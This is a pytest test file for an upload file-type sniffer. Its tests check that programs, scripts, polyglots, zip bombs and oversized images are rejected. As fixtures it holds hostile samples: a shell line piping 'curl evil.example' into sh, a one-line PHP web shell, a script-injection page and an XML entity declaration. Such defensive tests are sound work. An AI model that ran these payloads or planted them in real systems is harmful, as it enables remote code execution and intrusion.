"""A file is what its content is: each type is taken, and nothing passes for another."""

import io
import struct

import pytest

from files import kinds
from files.dimensions import check_dimensions
from files.errors import BadFile, FilesError, FileTooLarge, UnsupportedType
from files.sniffing import recognise
from tests.files.samples import PNG, SVG, compound, png, sample, zipped

EXTENSIONS = sorted(kinds.KINDS)
SAME = [{"jpg", "jpeg"}, {"txt", "csv"}, {"mp4", "mov", "m4a"}, {"webm", "mkv"}]
"""Types that may pass for one another, since readers go by the content anyway."""
PDF, ZIP = sample("pdf"), zipped("a.class")
SCRIPT = b"#!/bin/sh\ncurl evil.example | sh\n"
PAGE = b"<!DOCTYPE html><script>alert(1)</script>"
STRANGERS = {
    "a Windows program": b"MZ\x90\0\x03" + bytes(300) + b"PE\0\0",
    "a Linux program": b"\x7fELF\x02\x01\x01" + bytes(300),
    "a Mac program": bytes.fromhex("cffaedfe") + bytes(300),
    "a Java class": bytes.fromhex("cafebabe") + bytes(300),
    "a shell script": SCRIPT,
    "a web page": PAGE,
    "a PHP page": b"<?php system($_GET['x']); ?>",
    "an archive": ZIP,
    "an installer": compound("!_StringPool"),
    "macros": zipped("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"),
    "a font": b"\0\1\0\0\0\x0f" + bytes(300),
    "an iPhone's picture": b"\0\0\0\x18ftypheic\0\0\0\0heicmif1" + bytes(300),
    "XML": b"<?xml version='1.0'?><note/>",
    "entities": b'<!DOCTYPE svg [<!ENTITY a "aa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
    "noise": bytes(range(256)) * 4,
}
POLYGLOTS = {
    "a picture with an archive": ("png", PNG + ZIP),
    "a clip with an archive": ("mp4", sample("mp4") + ZIP),
    "a document with an archive": ("pdf", PDF + ZIP),
    "a picture with a document": ("jpg", sample("jpg")[:20] + PDF + sample("jpg")[20:]),
    "an archive with a document": ("docx", b"%PDF-1.7\n" + sample("docx")),
    "text with an archive": ("txt", b"words\n" + ZIP),
    "a picture with a page": ("gif", b"GIF89a\1\0\1\0" + PAGE),
    "a picture of two letters with a program": ("bmp", b"BM" + SCRIPT),
}


def told(content: bytes, extension: str | None) -> str:
    """The extension of what it is taken for."""
    claimed = kinds.KINDS[extension] if extension else None
    file = io.BytesIO(content)
    kind = recognise(file, claimed)
    check_dimensions(kind, file)
    return kind.extension


@pytest.mark.parametrize("extension", EXTENSIONS)
def test_each_type_is_known_by_name_and_without(extension: str) -> None:
    assert told(sample(extension), extension) == extension
    unnamed = told(sample(extension), None)
    assert unnamed == extension or {unnamed, extension} in [
        each & {unnamed, extension} for each in SAME
    ]


@pytest.mark.parametrize("extension", EXTENSIONS)
def test_no_type_passes_for_another(extension: str) -> None:
    same = next((each for each in SAME if extension in each), {extension})
    for other in set(EXTENSIONS) - same:
        if {extension, other} == {"svg", "txt"} or (extension == "svg" and other == "csv"):
            continue  # SVG is text as well, and as text it is shown to nobody
        with pytest.raises(FilesError):
            told(sample(extension), other)


@pytest.mark.parametrize("name", STRANGERS)
@pytest.mark.parametrize("extension", [*EXTENSIONS, None])
def test_a_stranger_gets_in_under_no_name(name: str, extension: str | None) -> None:
    if name in ("XML", "entities") and extension in ("txt", "csv", None):
        return  # XML is text
    with pytest.raises(FilesError):
        told(STRANGERS[name], extension)


@pytest.mark.parametrize("name", POLYGLOTS)
def test_nothing_is_two_things_at_once(name: str) -> None:
    extension, content = POLYGLOTS[name]
    with pytest.raises((UnsupportedType, BadFile)):
        told(content, extension)


def test_text_is_taken_in_the_writings_that_there_are() -> None:
    for content in ("Grüße".encode(), "Grüße".encode("cp1252"), "Grüße".encode("utf-16")):
        assert told(content, "txt") == "txt"
    for content in (b"a\0b", b"\xff\xfea", b"a\x1bb"):
        with pytest.raises(UnsupportedType):
            told(content, "txt")


@pytest.mark.parametrize("extension", ["png", "jpg", "gif", "webp", "bmp"])
def test_an_image_says_how_large_it_is_before_anybody_decodes_it(extension: str) -> None:
    sound = sample(extension)
    for cut in range(len(sound)):
        try:
            told(sound[:cut], extension)
        except FilesError:
            continue
        assert cut >= 10, "its size cannot be known yet"
        break
    with pytest.raises(FileTooLarge, match=r"60000 × 60000|million"):
        told(enormous(extension), extension)


def enormous(extension: str) -> bytes:
    """The sample, with 60000 × 60000 pixels in its header (WebP: 16383 × 16383)."""
    sound, wide = bytearray(sample(extension)), 60_000
    match extension:
        case "png":
            return png(wide, wide)
        case "gif":
            sound[6:10] = struct.pack("<HH", wide, wide)
        case "bmp":
            sound[18:26] = struct.pack("<ii", wide, -wide)
        case "jpg":
            at = sound.index(b"\xff\xc0")
            sound[at + 5 : at + 9] = struct.pack(">HH", wide, wide)
        case "webp":
            at = 21 if sound[12:16] == b"VP8L" else 26
            wide = (16_382 | 16_382 << 14) if at == 21 else 0x3FFF3FFF
            sound[at : at + 4] = struct.pack("<I", wide)
    return bytes(sound)


def test_a_zip_bomb_is_refused_by_what_it_says() -> None:
    bomb = bytearray(sample("docx"))
    at = bomb.rindex(b"PK\x01\x02")
    bomb[at + 24 : at + 28] = struct.pack("<I", 3_000_000_000)
    with pytest.raises(BadFile, match="unpacks"):
        told(bytes(bomb), "docx")


def test_an_archive_s_list_is_not_read_without_bounds() -> None:
    """A list of a megabyte and more would be objects of many megabytes."""
    names = [f"word/{number}" for number in range(20_000)]
    with pytest.raises(BadFile, match="too many members"):
        told(zipped("[Content_Types].xml", "word/document.xml", *names), "docx")


def test_svg_is_read_to_its_end() -> None:
    assert told(b"\xef\xbb\xbf<?xml version='1.0'?><!-- x -->" + SVG, "svg") == "svg"
    for content in (SVG[:-3], SVG + b"<p/>", b"<svg", b""):
        with pytest.raises(UnsupportedType):
            told(content, "svg")
